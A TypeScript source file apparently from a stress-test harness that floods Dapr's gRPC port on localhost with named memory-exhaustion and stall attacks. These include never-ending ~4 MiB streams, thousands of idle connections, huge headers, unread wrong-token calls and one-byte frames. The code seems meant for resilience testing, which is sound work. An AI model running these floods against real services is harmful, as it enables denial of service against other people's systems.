import { connect } from 'node:http2';
import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

import type { Attack, AttackOptions, AttackSize } from '../attack';
import { openSockets, pour } from '../attack-sockets';
import { body, callHeaders, message, openHttp2, preface, setting } from '../http2-frames';

const CHECK = '/grpc.health.v1.Health/Check';
const WATCH = '/grpc.health.v1.Health/Watch';
const TRY_LOCK = '/dapr.proto.runtime.v1.Dapr/TryLockAlpha1';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';

/** Just below daprd's limit for a message. */
const LONGEST_BYTES = 4 * 1024 * 1024 - 100;

const NOTHING = message(Buffer.alloc(0));

/** A wrong token. */
const STRANGER = { 'dapr-api-token': 'guessed' };

/** Connections to open, by how many the attack is named for. */
const connections = (size: AttackSize, full: number): number =>
  size === 'full' ? full : full / 10;

async function openMany(port: number, count: number, settings?: Buffer): Promise<Socket[]> {
  const sockets = await openSockets(port, count);
  for (const socket of sockets) socket.write(preface(settings));
  return sockets;
}

/** With 0 no header of an answer is shortened, and answers fill what is not read (RFC 9113, 6.5.2). */
const HEADER_TABLE_SIZE = 1;

/** A name in field 1 of a message. */
function named(name: Buffer): Buffer {
  const length: number[] = [];
  let rest = name.length;
  for (; rest > 127; rest = Math.floor(rest / 128)) length.push((rest % 128) + 128);
  return Buffer.concat([Buffer.from([10, ...length, rest]), name]);
}

export const grpcWatchNames: Attack = {
  name: 'grpc-watch-names',
  description: '150 health watches, each of a name of its own, nearly 4 MiB long.',
  kind: 'memory',
  run: async ({ target, size }) => {
    const socket = await openHttp2(target.grpcPort);
    for (let stream = 1; stream < 2 * (size === 'full' ? 150 : 30); stream += 2) {
      const name = Buffer.alloc(LONGEST_BYTES - 10, String(stream).padStart(7, '-'));
      const bytes = Buffer.concat([
        callHeaders(stream, WATCH),
        body(stream, message(named(name)), true),
      ]);
      await pour(socket, bytes, 2000);
    }
    return undefined;
  },
};

/** Keeps to flow control, as nothing else gets so much through; the bodies never end. */
function unfinished(
  name: string,
  description: string,
  {
    path,
    headers,
    token = false,
    onlyAtFullSize = false,
  }: {
    readonly path: string;
    readonly headers?: Readonly<Record<string, string>>;
    readonly token?: boolean;
    readonly onlyAtFullSize?: boolean;
  },
): Attack {
  const part = message(Buffer.alloc(LONGEST_BYTES - 1000, 8), LONGEST_BYTES);
  return {
    name,
    description,
    kind: 'memory',
    needs: { token },
    onlyAtFullSize,
    run: async ({ target, size }) => {
      const session = connect(`http://127.0.0.1:${target.grpcPort}`, {
        maxSessionMemory: 10_000,
      });
      session.on('error', () => undefined);
      const sent = Array.from({ length: size === 'full' ? 300 : 60 }, () => {
        if (session.destroyed) return Promise.resolve();
        const stream = session.request({
          ':method': 'POST',
          ':path': path,
          'content-type': 'application/grpc',
          te: 'trailers',
          ...headers,
          ...(target.token === undefined ? {} : { 'dapr-api-token': target.token }),
        });
        stream.on('error', () => undefined);
        stream.resume();
        return new Promise<void>((resolve) => {
          stream.once('close', resolve);
          stream.write(part, () => {
            resolve();
          });
        });
      });
      await Promise.race([Promise.all(sent), pause(15_000)]);
      return undefined;
    },
  };
}

export const grpcUnfinished: readonly Attack[] = [
  unfinished('grpc-unfinished-check', '300 health checks of nearly 4 MiB that never end.', {
    path: CHECK,
  }),
  unfinished('grpc-unfinished-watch', '300 health watches of nearly 4 MiB that never end.', {
    path: WATCH,
    onlyAtFullSize: true,
  }),
  unfinished(
    'grpc-unfinished-stranger',
    '300 lock calls of nearly 4 MiB that never end, wrong token.',
    {
      path: TRY_LOCK,
      headers: STRANGER,
    },
  ),
  unfinished(
    'grpc-unfinished-lock',
    '300 lock calls of nearly 4 MiB that never end, right token.',
    {
      path: TRY_LOCK,
      token: true,
    },
  ),
  unfinished('grpc-unfinished-reflection', '300 reflection streams of nearly 4 MiB, right token.', {
    path: REFLECTION,
    token: true,
  }),
];

export const grpcConnections: Attack = {
  name: 'grpc-connections',
  description: '3000 gRPC connections without a call.',
  kind: 'memory',
  run: async ({ target, size }) => {
    await openMany(target.grpcPort, connections(size, 3000));
    await pause(2000);
    return undefined;
  },
};

export const grpcSilent: Attack = {
  name: 'grpc-silent',
  description: '3000 connections to the gRPC port that send nothing.',
  kind: 'memory',
  run: async ({ target, size }) => {
    await openSockets(target.grpcPort, connections(size, 3000));
    await pause(2000);
    return undefined;
  },
};

/** On so many connections, so many calls each. */
async function callEverywhere(
  { target, size }: AttackOptions,
  count: number,
  bytesOf: (stream: number) => Buffer,
): Promise<undefined> {
  const bytes = Buffer.concat(Array.from({ length: 20 }, (_, index) => bytesOf(2 * index + 1)));
  const sockets = await openMany(target.grpcPort, connections(size, count));
  await Promise.all(sockets.map((socket) => pour(socket, bytes, 10_000)));
  await pause(1000);
  return undefined;
}

export const grpcLongHeaders: Attack = {
  name: 'grpc-long-headers',
  description: '100 connections with 20 unfinished health checks each, of 60 KB of headers.',
  kind: 'memory',
  run: (options) =>
    callEverywhere(options, 100, (stream) =>
      callHeaders(stream, CHECK, { a: 'x'.repeat(30_000), b: 'y'.repeat(30_000) }),
    ),
};

export const grpcWatchers: Attack = {
  name: 'grpc-watchers',
  description: '200 connections with 20 health watches each, of 8 KB of headers.',
  kind: 'memory',
  run: (options) =>
    callEverywhere(options, 200, (stream) =>
      Buffer.concat([
        callHeaders(stream, WATCH, { a: 'x'.repeat(8000) }),
        body(stream, NOTHING, true),
      ]),
    ),
};

export const grpcUnread: Attack = {
  name: 'grpc-unread',
  description: '200 connections call with a wrong token again and again and read no answer.',
  kind: 'stall',
  run: async ({ target, size }) => {
    const settings = setting(HEADER_TABLE_SIZE, 0);
    const sockets = await openMany(target.grpcPort, connections(size, 200), settings);
    for (const socket of sockets) socket.pause();
    const endsAt = performance.now() + 4000;
    for (let stream = 1; performance.now() < endsAt; stream += 40) {
      const calls = Array.from({ length: 20 }, (_, index) => [
        callHeaders(stream + 2 * index, TRY_LOCK, STRANGER),
        body(stream + 2 * index, NOTHING, true),
      ]);
      const bytes = Buffer.concat(calls.flat());
      await Promise.all(sockets.map((socket) => pour(socket, bytes, 100)));
    }
    return undefined;
  },
};

export const grpcDrops: Attack = {
  name: 'grpc-drops',
  description: '100 lock calls of 4 MB come in frames of one byte, right token.',
  kind: 'memory',
  needs: { token: true },
  run: async ({ target, size }) => {
    const socket = await openHttp2(target.grpcPort);
    for (let stream = 1; stream < 2 * (size === 'full' ? 100 : 20); stream += 2) {
      const drops = Array.from({ length: 5000 }, () => body(stream, Buffer.from([8])));
      const headers = callHeaders(stream, TRY_LOCK, { 'dapr-api-token': target.token ?? '' });
      const start = body(stream, message(Buffer.alloc(0), 4_000_000));
      await pour(socket, Buffer.concat([headers, start, ...drops]), 2000);
    }
    return undefined;
  },
};
